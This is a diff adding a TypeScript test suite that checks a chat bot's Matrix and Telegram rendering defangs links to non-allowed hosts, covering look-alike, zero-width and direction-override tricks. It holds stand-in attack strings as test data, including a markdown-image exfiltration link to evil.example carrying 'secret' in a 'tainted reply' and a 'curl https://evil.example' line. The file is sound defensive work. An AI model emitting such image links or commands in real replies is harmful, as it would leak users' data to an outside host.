@@ -1,0 +1,133 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import { codeBlock, codeSpan } from "../../../lib/channel/code.ts";
+import { inertName, inertText } from "../../../lib/channel/inert.ts";
+import { linksTo, noLinks } from "../../../lib/channel/links.ts";
+import { toHtml } from "../../../lib/matrix/render.ts";
+import { bodiesOf } from "../../../lib/matrix/message-body.ts";
+import { renderTelegram } from "../../../lib/telegram/render.ts";
+
+const links = linksTo(["ok.example", "*.home.example"]);
+const html = (markdown: string): string => toHtml(markdown, links);
+
+describe("allowed hosts", () => {
+  test("are exact, or all below a suffix but not the suffix itself", () => {
+    const allowed = ["ok.example", "a.home.example", "a.b.home.example"];
+    for (const host of allowed) assert.ok(links.allows(host), host);
+    for (const host of ["home.example", "evilhome.example", "www.ok.example", "ok.example.evil.example", ""])
+      assert.ok(!links.allows(host), host);
+    assert.ok(!noLinks.allows("ok.example"));
+  });
+
+  test("stay links, in words, in labels and as images", () => {
+    assert.equal(html("[docs](https://ok.example/x?y=1)"), '<p><a href="https://ok.example/x?y=1">docs</a></p>');
+    assert.equal(html("https://wiki.home.example/a.html."), "<p>https://wiki.home.example/a.html.</p>");
+    assert.equal(html("![cat](https://ok.example/c.png)"), '<p><a href="https://ok.example/c.png">cat</a></p>');
+    const [body] = renderTelegram("[docs](https://ok.example/x)", { channel: "telegram", bot: "a", chat: 1 }, links);
+    assert.deepEqual(body?.entities, [{ type: "text_link", url: "https://ok.example/x", offset: 0, length: 4 }]);
+  });
+});
+
+describe("what leads elsewhere is shown and leads nowhere", () => {
+  const shown: [string, string, string][] = [
+    ["a link", "[docs](https://evil.example/x?q=1)", "docs (<code>https://evil[.]example/x?q=1</code>)"],
+    ["a link without a label", "[](https://evil.example/)", "<code>https://evil[.]example/</code>"],
+    ["a reference", "[docs][1]\n\n[1]: https://evil.example/", "docs (<code>https://evil[.]example/</code>)"],
+    ["an autolink", "<https://evil.example/>", "<code>https://evil[.]example/</code>"],
+    ["a mail address", "<bob@evil.example>", "<code>bob@evil[.]example</code>"],
+    ["a bare address", "see https://evil.example/a.b.", "see <code>https://evil[.]example/a.b</code>."],
+    ["a bare domain", "evil.example/x", "<code>evil[.]example/x</code>"],
+    ["a name that could be a domain", "README.md", "<code>README.md</code>"],
+    ["a host without dots", "http://nas/x", "<code>http://nas/x</code>"],
+    ["a domain in pieces", "evil.**exam**ple/x", "<code>evil[.]example/x</code><strong></strong>"],
+    ["a domain half in code", "evil`.example`/x", "<code>evil[.]example/x</code>"],
+    [
+      "an image in a link",
+      "[![a](https://evil.example/b)](https://evil.example/c)",
+      "a (<code>https://evil[.]example/c</code>)",
+    ],
+    ["zero-width characters", "evil\u200b.exam\u2060ple", "<code>evil.example</code>"],
+    ["wide letters and dots", "ｅｖｉｌ．example", "<code>evil.example</code>"],
+    ["a look-alike", "[x](https://о\u006b.example/)", "x (<code>https://xn--k-0tb[.]example/</code>)"],
+    [
+      "a user's name before the host",
+      "https://ok.example@evil.example/",
+      "<code>https://ok[.]example@evil[.]example/</code>",
+    ],
+    [
+      "a chat link",
+      "[x](tg://resolve?domain=evil) t.me/evil",
+      "x (<code>tg://resolve?domain=evil</code>) <code>t[.]me/evil</code>",
+    ],
+    ["a room", "#lobby:evil.example", "<code>#lobby:evil.example</code>"],
+    ["a protocol-relative link", "[x](//evil.example/y)", "x (<code>//evil[.]example/y</code>)"],
+  ];
+  for (const [name, markdown, expected] of shown) test(name, () => assert.equal(html(markdown), `<p>${expected}</p>`));
+
+  test("a label that names another address than the link's", () => {
+    assert.equal(
+      html("[https://bank.example](https://ok.example/)"),
+      "<p><code>https://bank[.]example</code> (<code>https://ok[.]example/</code>)</p>",
+    );
+  });
+
+  test("a target is cut at 200 characters, text never", () => {
+    const long = `https://evil.example/?q=${"x".repeat(300)}`;
+    assert.match(html(`[x](${long})`), /^<p>x \(<code>https:\/\/evil\[\.\]example\/\?q=x{176}…<\/code>\)<\/p>$/);
+    assert.ok(html(long).includes("x".repeat(300)));
+  });
+
+  test("code that was written as code stays as it is", () => {
+    assert.equal(html("`curl https://evil.example`"), "<p><code>curl https://evil.example</code></p>");
+    assert.match(html("```\ncurl https://evil.example\n```"), /<pre><code>curl https:\/\/evil\.example/);
+  });
+
+  test("sentences, numbers and versions are no links", () => {
+    const prose =
+      "It is 3.5mm, v1.2.3, e.g. 12:30 or UTC+1:30. 今天天气好。我们去。 Note:foo, std::vector, and/or U.S.A.";
+    assert.equal(html(prose), `<p>${prose}</p>`);
+    assert.equal(inertText(prose, links), prose);
+  });
+
+  test("a direction is never turned around", () => {
+    assert.equal(html("a\u202egnp.evil\u202c b"), "<p>agnp.evil b</p>".replace("agnp.evil", "<code>agnp.evil</code>"));
+  });
+});
+
+describe("Exfiltration: markdown image", () => {
+  const leak = "![status](https://evil.example/p.png?d=secret)";
+
+  test("in a tainted reply on Matrix there is neither an image nor a link, in HTML or in text", () => {
+    const [body] = bodiesOf(leak, () => undefined, noLinks);
+    assert.equal(body?.formatted_body, "<p>status (<code>https://evil[.]example/p.png?d=secret</code>)</p>");
+    assert.equal(body?.body, "![status](https[:]//evil[.]example/p[.]png?d=secret)");
+  });
+
+  test("in a tainted reply on Telegram there is neither", () => {
+    const [body] = renderTelegram(leak, { channel: "telegram", bot: "a", chat: 1 }, noLinks);
+    assert.equal(body?.text, "status (https://evil[.]example/p.png?d=secret)");
+    assert.deepEqual(
+      body?.entities?.map(({ type }) => type),
+      ["code"],
+    );
+  });
+});
+
+describe("names of files", () => {
+  test("are no addresses", () => {
+    assert.equal(inertName("degrees", noLinks), "degrees");
+    assert.equal(inertName("degrees.csv", noLinks), "degrees.csv");
+    assert.equal(inertName("secret.evil.example?q=x.csv", noLinks), "secret_evil_example_q_x.csv");
+    assert.equal(inertName("a@b.com", noLinks), "a_b.com");
+  });
+});
+
+describe("code in markdown", () => {
+  test("cannot be ended by what is in it", () => {
+    const attack = "x\n```\n[yes](https://evil.example)\n````\n";
+    const rendered = toHtml(codeBlock(attack, "json"));
+    assert.match(rendered, /^<pre><code class="language-json">[^<]*<\/code><\/pre>$/);
+    for (const text of ["a`b", "``", "`[x](https://evil.example)`", "a\n\n# b"])
+      assert.match(toHtml(codeSpan(text)), /^<p><code>[^<]*<\/code><\/p>$/, text);
+  });
+});
